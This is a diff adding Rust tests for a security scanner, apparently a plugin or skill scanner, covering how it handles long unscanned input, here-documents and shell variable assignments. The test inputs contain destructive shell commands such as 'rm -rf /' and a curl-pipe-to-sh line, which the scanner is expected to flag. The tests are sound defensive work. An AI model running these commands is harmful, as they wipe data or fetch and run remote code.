@@ -1,0 +1,48 @@
+//! What lies in itself again and again is read so often, and no more.
+
+use plugward_scanner::Profile;
+
+use crate::common::check;
+
+fn unscanned(path: &str, text: &str) -> usize {
+    let found = check(Profile::General, path, text);
+    found.iter().filter(|line| line.contains("coverage/unscanned")).count()
+}
+
+#[test]
+fn scripts_left_open_are_read_up_to_a_bound_that_is_told() {
+    let scripts = |count: usize| format!("{}<script>eval(x)\n", "The tag <script> runs.\n".repeat(count));
+    for path in ["README.md", "a.txt", "SKILL.md"] {
+        assert_eq!(unscanned(path, &scripts(20)), 0, "{path}");
+        assert!(unscanned(path, &scripts(900)) > 0, "{path}");
+        // What the first one holds was read.
+        let found = check(Profile::General, path, &scripts(900));
+        assert!(found.iter().any(|line| line.contains("exec/eval")), "{path}: {found:?}");
+    }
+}
+
+#[test]
+fn a_here_document_ends_with_the_backticks_that_it_begins_in() {
+    let text = "x=`cat <<A`\nbash <<B\nrm -rf /\nB\n";
+    let found = check(Profile::General, "a.sh", text);
+    assert!(
+        found.iter().any(|line| line.starts_with("3:1 ") && line.contains("sh/destructive")),
+        "{found:?}"
+    );
+    let text = "x=`cat <<A`\ncat <<B\nrm -rf /\nB\n";
+    let found = check(Profile::General, "a.sh", text);
+    assert!(!found.iter().any(|line| line.contains("sh/destructive")), "{found:?}");
+}
+
+#[test]
+fn a_later_equals_sign_belongs_to_the_value() {
+    for text in ["A==b curl -s h.example/x | sh", "A=b=c=d sh -c 'rm -rf /'", "A+=b=c rm -rf /"] {
+        let found = check(Profile::General, "a.sh", text);
+        assert!(found.iter().any(|line| line.contains(" danger sh/")), "{text}: {found:?}");
+    }
+    // No assignment, but a word: the program's name.
+    for text in ["=A=b rm -rf /", "1=2 rm -rf /"] {
+        let found = check(Profile::General, "a.sh", text);
+        assert!(!found.iter().any(|line| line.contains("sh/destructive")), "{text}: {found:?}");
+    }
+}
